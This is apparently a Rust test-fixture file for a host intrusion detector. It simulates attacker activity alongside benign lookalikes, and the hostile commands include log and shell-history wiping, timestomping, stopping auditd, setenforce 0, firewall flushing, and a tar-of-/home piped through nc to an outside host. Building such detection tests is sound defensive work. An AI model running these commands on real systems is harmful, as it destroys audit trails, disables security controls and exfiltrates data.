//! Traces that are wiped, tools that are switched off, and looking around.

use super::stage::{CREATE, Call, Image, MILLISECOND, READ, SECOND, Stage, TRUNCATE, WRITE};
use super::{Plant, plant};

pub(super) const PLANTS: &[Plant] = &[
    plant("log_tampering", log_tampering, no_log_tampering),
    plant("timestomp", timestomp, no_timestomp),
    plant("history_clearing", history_clearing, no_history_clearing),
    plant("security_tool_killed", tool_killed, no_tool_killed),
    plant("security_tool_tampering", tool_tampering, no_tool_tampering),
    plant("access_control_off", access_control_off, no_access_control_off),
    plant("firewall_tampering", firewall_tampering, no_firewall_tampering),
    plant("file_attribute_hiding", attribute_hiding, no_attribute_hiding),
    plant("setuid_file_search", setuid_file_search, no_setuid_file_search),
    plant("proc_scan", proc_scan, no_proc_scan),
    plant("archive_staging", archive_staging, no_archive_staging),
];

fn command(exe: &str, argv: &str) -> Image {
    Image::new(exe, "").argv(argv)
}

/// Runs commands, each of which the check has to find.
fn found(stage: &mut Stage, image: Image) {
    let shell = stage.shell(0);
    let child = stage.run(shell, image);
    stage.finding(child);
}

/// Runs commands, none of which it may.
fn left(stage: &mut Stage, images: impl IntoIterator<Item = Image>) {
    let shell = stage.shell(0);
    for image in images {
        let child = stage.run(shell, image);
        stage.lookalike(child);
        stage.wait(2 * SECOND);
    }
}

fn log_tampering(stage: &mut Stage) {
    let file =
        ["/var/log/auth.log", "/var/log/wtmp", "/var/log/syslog", "/var/log/audit/audit.log"];
    let file = file[stage.turn % file.len()];
    let shell = stage.shell(0);
    let child = match stage.random.below(4) {
        0 => {
            let child = stage.start(shell, Image::new("/usr/bin/rm", format!("-f {file}")));
            stage.unlink(child, file);
            child
        }
        1 => {
            let child = stage.start(shell, Image::new("/usr/bin/truncate", format!("-s 0 {file}")));
            stage.call(child, Call::new("truncate").path(file));
            child
        }
        2 => {
            let child =
                stage.start(shell, Image::new("/usr/bin/ln", format!("-sf /dev/null {file}")));
            stage.symlink(child, "/dev/null", file);
            child
        }
        _ => {
            let child = stage.start(shell, Image::new("/usr/bin/python3.11", "/srv/tools/wipe.py"));
            stage.write(child, file);
            child
        }
    };
    stage.finding(child);
    stage.exit(child, 0);
}

/// Programs that keep logs, rotation, and who only reads.
fn no_log_tampering(stage: &mut Stage) {
    let child = stage.script();
    stage.read(child, "/var/log/auth.log");
    stage.call(child, Call::new("unlinkat").path("/var/log/auth.log").ret(-13));
    stage.open_fails(child, "/var/log/wtmp", WRITE | CREATE | TRUNCATE, 13);
    stage.unlink(child, "/var/log/app/app.log");
    let logger = stage.cast.rsyslogd;
    stage.append(logger, "/var/log/auth.log");
    let job = command("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf");
    let rotate = stage.start(stage.cast.cron, job);
    let gzip = stage.start(rotate, Image::new("/usr/bin/gzip", ""));
    stage.write(gzip, "/var/log/auth.log.1.gz");
    stage.unlink(gzip, "/var/log/auth.log.1");
    stage.exit(gzip, 0);
    stage.exit(rotate, 0);
    let package = stage.packaged();
    stage.write(package, "/var/log/btmp");
    for who in [child, logger, gzip, package] {
        stage.lookalike(who);
    }
}

fn timestomp(stage: &mut Stage) {
    match stage.turn {
        0 => found(stage, command("/usr/bin/touch", "touch -d '2020-01-01 12:00' /etc/hostname")),
        1 => found(stage, command("/usr/bin/touch", "touch -r /usr/bin/ls /usr/bin/lsx")),
        _ => {
            let child = stage.script();
            stage.call(child, Call::new("utimensat").path("/etc/issue"));
            stage.finding(child);
        }
    }
}

fn no_timestomp(stage: &mut Stage) {
    left(
        stage,
        [
            command("/usr/bin/touch", "touch /etc/hostname"),
            command("/usr/bin/touch", "touch -d 2020-01-01 /srv/x"),
            command("/usr/bin/touch", "touch -r /etc/passwd /srv/x"),
        ],
    );
    let child = stage.script();
    stage.call(child, Call::new("utimensat").path("/etc/issue").ret(-1));
    stage.call(child, Call::new("utimensat").path("/srv/x"));
    stage.chmod(child, "/etc/issue", 0o644);
    let shell = stage.shell(0);
    let rsync = stage.start(shell, Image::new("/usr/bin/rsync", "-a /srv/etc/ /etc/"));
    stage.call(rsync, Call::new("utimensat").path("/etc/issue"));
    stage.exit(rsync, 0);
    let package = stage.packaged();
    stage.call(package, Call::new("utimensat").path("/etc/package.conf"));
    for who in [child, rsync, package] {
        stage.lookalike(who);
    }
}

fn history_clearing(stage: &mut Stage) {
    let shell = stage.shell(0);
    match stage.turn {
        0 => {
            let rm = stage.start(shell, Image::new("/usr/bin/rm", "-f /root/.bash_history"));
            stage.unlink(rm, "/root/.bash_history");
            stage.finding(rm);
            stage.exit(rm, 0);
        }
        1 => {
            let ln = Image::new("/usr/bin/ln", "-sf /dev/null /home/ada/.bash_history");
            let ln = stage.start(shell, ln);
            stage.symlink(ln, "/dev/null", "/home/ada/.bash_history");
            stage.finding(ln);
            stage.exit(ln, 0);
        }
        2 => {
            let child = stage.script();
            stage.write(child, "/home/ada/.zsh_history");
            stage.finding(child);
        }
        _ => {
            stage.unlink(shell, "/root/.bash_history");
            stage.finding(shell);
        }
    }
}

/// Shells that keep their history, and files beside it.
fn no_history_clearing(stage: &mut Stage) {
    let shell = stage.shell(1000);
    stage.append(shell, "/home/ada/.bash_history");
    stage.move_file(shell, "/home/ada/.bash_history-00812.tmp", "/home/ada/.bash_history");
    let rm = stage.start(shell, Image::new("/usr/bin/rm", "-f /home/ada/.bash_logout"));
    stage.unlink(rm, "/home/ada/.bash_logout");
    stage.read(rm, "/home/ada/.bash_history");
    stage.call(rm, Call::new("unlinkat").path("/root/.bash_history").ret(-13));
    stage.exit(rm, 0);
    stage.lookalike(shell);
    stage.lookalike(rm);
}

fn tool_killed(stage: &mut Stage) {
    let shell = stage.shell(0);
    let target = if stage.turn.is_multiple_of(2) { stage.cast.auditd } else { stage.cast.rsyslogd };
    let signal = stage.random.pick(&["SIGKILL", "SIGTERM", "SIGSTOP"]);
    let args = format!("-s {} {}", &signal[3..], stage.pid(target));
    let kill = stage.start(shell, Image::new("/usr/bin/kill", args));
    stage.signal(kill, target, signal, "SI_USER");
    stage.finding(kill);
    stage.exit(kill, 0);
}

/// The manager of services, other signals, other targets, and who ends what it started.
fn no_tool_killed(stage: &mut Stage) {
    let shell = stage.shell(0);
    let (auditd, nginx) = (stage.cast.auditd, stage.cast.nginx);
    let reload = stage.start(shell, Image::new("/usr/bin/kill", "-HUP auditd"));
    stage.signal(reload, auditd, "SIGHUP", "SI_USER");
    stage.exit(reload, 0);
    let other = stage.start(shell, Image::new("/usr/bin/kill", "nginx"));
    stage.signal(other, nginx, "SIGTERM", "SI_USER");
    stage.exit(other, 0);
    let manager = Image::new("/usr/lib/systemd/systemd", "--user");
    let manager = stage.start(stage.cast.systemd, manager);
    stage.signal(manager, auditd, "SIGTERM", "SI_USER");
    stage.exit(manager, 0);
    let starter = stage.script();
    let own = stage.start(starter, Image::new("/usr/bin/suricata", "-r test.pcap"));
    stage.wait(SECOND);
    stage.signal(own, own, "SIGABRT", "SI_TKILL");
    stage.signal(starter, own, "SIGTERM", "SI_USER");
    stage.die(own, "SIGTERM");
    for who in [reload, other, manager, starter] {
        stage.lookalike(who);
    }
}

fn tool_tampering(stage: &mut Stage) {
    let image = match stage.turn {
        0 => command("/usr/bin/systemctl", "systemctl stop auditd"),
        1 => command("/usr/bin/systemctl", "systemctl disable --now rsyslog.service"),
        2 => command("/usr/sbin/auditctl", "auditctl -D"),
        _ => command("/usr/bin/systemctl", "systemctl mask fail2ban"),
    };
    found(stage, image);
}

fn no_tool_tampering(stage: &mut Stage) {
    left(
        stage,
        [
            command("/usr/bin/systemctl", "systemctl restart auditd"),
            command("/usr/bin/systemctl", "systemctl stop nginx"),
            command("/usr/bin/systemctl", "systemctl status rsyslog"),
            command("/usr/sbin/auditctl", "auditctl -l"),
        ],
    );
    let package = stage.packaged();
    let child = stage.run(package, command("/usr/bin/systemctl", "systemctl stop rsyslog"));
    stage.lookalike(child);
}

fn access_control_off(stage: &mut Stage) {
    match stage.turn {
        0 => found(stage, command("/usr/sbin/setenforce", "setenforce 0")),
        1 => {
            let child = stage.script();
            stage.open(child, "/sys/fs/selinux/enforce", WRITE);
            stage.finding(child);
        }
        2 => found(stage, command("/usr/bin/systemctl", "systemctl stop apparmor")),
        _ => {
            let argv = "apparmor_parser -R /etc/apparmor.d/usr.sbin.named";
            found(stage, command("/usr/sbin/apparmor_parser", argv));
        }
    }
}

fn no_access_control_off(stage: &mut Stage) {
    left(
        stage,
        [
            command("/usr/sbin/setenforce", "setenforce 1"),
            command("/usr/bin/systemctl", "systemctl restart apparmor"),
            command("/usr/sbin/apparmor_parser", "apparmor_parser -r /etc/apparmor.d/named"),
        ],
    );
    let child = stage.script();
    stage.open(child, "/sys/fs/selinux/enforce", READ);
    stage.open_fails(child, "/sys/fs/selinux/enforce", WRITE, 13);
    stage.open(child, "/sys/fs/selinux/avc/cache_threshold", WRITE);
    let manager = Image::new("/usr/lib/systemd/systemd", "--system");
    let manager = stage.start(stage.cast.systemd, manager);
    stage.open(manager, "/sys/fs/selinux/enforce", WRITE);
    stage.exit(manager, 0);
    let package = stage.packaged();
    let stop = stage.run(package, command("/usr/bin/systemctl", "systemctl stop apparmor"));
    for who in [child, manager, stop] {
        stage.lookalike(who);
    }
}

const IPTABLES: &str = "/usr/sbin/xtables-nft-multi";

fn iptables(argv: &str) -> Image {
    Image::new(IPTABLES, "").path("/sbin/iptables").argv(argv)
}

fn firewall_tampering(stage: &mut Stage) {
    let image = match stage.turn {
        0 => iptables("iptables -F"),
        1 => iptables("iptables -P INPUT ACCEPT"),
        2 => command("/usr/sbin/nft", "nft flush ruleset"),
        _ => command("/usr/bin/python3.11", "/usr/bin/python3 /usr/sbin/ufw disable")
            .path("/usr/sbin/ufw"),
    };
    found(stage, image);
}

fn no_firewall_tampering(stage: &mut Stage) {
    left(
        stage,
        [
            iptables("iptables -F DOCKER"),
            iptables("iptables -A INPUT -j DROP"),
            iptables("iptables -L -n"),
            command("/usr/sbin/nft", "nft list ruleset"),
        ],
    );
    let stop = stage.run(stage.cast.systemd, command("/usr/sbin/nft", "nft flush ruleset"));
    stage.lookalike(stop);
}

fn attribute_hiding(stage: &mut Stage) {
    let file = stage.fresh("/etc/cron.d/z");
    if stage.turn.is_multiple_of(2) {
        found(stage, command("/usr/bin/chattr", &format!("chattr +i {file}")));
    } else {
        let child = stage.script();
        stage.call(child, Call::new("file_setattr").path(file));
        stage.finding(child);
    }
}

fn no_attribute_hiding(stage: &mut Stage) {
    left(
        stage,
        [
            command("/usr/bin/chattr", "chattr +C /srv/images"),
            command("/usr/bin/chattr", "chattr -R +d /srv/cache"),
            command("/usr/bin/lsattr", "lsattr /etc"),
        ],
    );
    let child = stage.script();
    stage.call(child, Call::new("file_getattr").path("/etc/hosts"));
    stage.call(child, Call::new("file_setattr").path("/etc/hosts").ret(-1));
    let shell = stage.shell(0);
    let tool = stage.start(shell, Image::new("/usr/sbin/xfs_io", "-c 'chattr +i' /srv/x"));
    stage.call(tool, Call::new("file_setattr").path("/srv/x"));
    stage.exit(tool, 0);
    stage.lookalike(child);
    stage.lookalike(tool);
}

fn setuid_file_search(stage: &mut Stage) {
    let argv = ["find / -perm -4000 -type f", "find / -perm '-u=s'", "f / -perm -4000 -type f"];
    let argv = argv[stage.turn % argv.len()];
    let exe = if argv.starts_with("f ") { "/srv/tools/f" } else { "/usr/bin/find" };
    found(stage, command(exe, argv));
}

fn no_setuid_file_search(stage: &mut Stage) {
    let shell = Image::new("/usr/bin/dash", "").path("/bin/sh");
    left(
        stage,
        [
            command("/usr/bin/find", "find / -perm 755"),
            command("/usr/bin/find", "find / -name '*.perm -4000'"),
            shell.argv("sh -c 'find / -perm -4000 2>/dev/null'"),
        ],
    );
}

fn proc_scan(stage: &mut Stage) {
    let count = stage.random.between(20, 60);
    stage.next_minute();
    let child = stage.script();
    for target in 0..count {
        let file = format!("/proc/{}/cmdline", 2_000 + target * 3);
        match stage.turn % 2 {
            0 => _ = stage.open(child, file, READ),
            _ => stage.open_fails(child, file, READ, 2),
        }
    }
    stage.finding(child);
}

fn no_proc_scan(stage: &mut Stage) {
    stage.next_minute();
    let child = stage.script();
    let own = stage.pid(child);
    let file = |target: i64, name: &str| format!("/proc/{}/{name}", 2_000 + target * 3);
    for target in 0..25 {
        stage.call(child, Call::new("newfstatat").path(file(target, "stat")));
        stage.open(child, file(target, "oom_score_adj"), READ);
    }
    for target in 0..19 {
        stage.open(child, file(target, "stat"), READ);
    }
    stage.open(child, format!("/proc/{own}/stat"), READ);
    let shell = stage.shell(0);
    let ps = stage.start(shell, Image::new("/usr/bin/ps", "ax"));
    for target in 0..30 {
        stage.open(ps, file(target, "stat"), READ);
    }
    stage.exit(ps, 0);
    // Few at a time.
    let slow = stage.script();
    for minute in 0..4 {
        stage.next_minute();
        for target in 0..7 {
            stage.open(slow, file(minute * 10 + target, "status"), READ);
        }
    }
    for who in [child, ps, slow] {
        stage.lookalike(who);
    }
}

fn archive_staging(stage: &mut Stage) {
    let name = stage.fresh("/tmp/b");
    match stage.turn {
        0 => found(stage, command("/usr/bin/tar", &format!("tar czf {name}.tgz /etc"))),
        1 => {
            let shell = stage.shell(0);
            let tar = stage.start(shell, command("/usr/bin/tar", "tar czf - /home"));
            let address = stage.outside();
            let argv = format!("nc {address} 443");
            let sends = stage.start(shell, command("/usr/bin/nc.openbsd", &argv));
            stage.wait(SECOND);
            stage.exit(tar, 0);
            stage.exit(sends, 0);
            stage.finding(tar);
        }
        _ => found(stage, command("/usr/bin/zip", &format!("zip -r {name}.zip /var/www"))),
    }
}

fn no_archive_staging(stage: &mut Stage) {
    left(
        stage,
        [
            command("/usr/bin/tar", "tar tzf /tmp/x.tgz /etc"),
            command("/usr/bin/tar", "tar czf /tmp/x.tgz src"),
            command("/usr/bin/tar", "tar czf /srv/backup/x.tgz /etc"),
        ],
    );
    let shell = stage.shell(0);
    let tar = stage.start(shell, command("/usr/bin/tar", "tar cf - /etc"));
    let beside = stage.start(shell, Image::new("/usr/bin/gzip", ""));
    let other = stage.shell(0);
    stage.run(other, command("/usr/bin/nc.openbsd", "nc 10.0.0.7 9"));
    stage.wait(60 * SECOND);
    stage.exit(tar, 0);
    stage.exit(beside, 0);
    stage.run(shell, command("/usr/bin/nc.openbsd", "nc 10.0.0.7 9"));
    stage.wait(10 * MILLISECOND);
    stage.lookalike(tar);
}
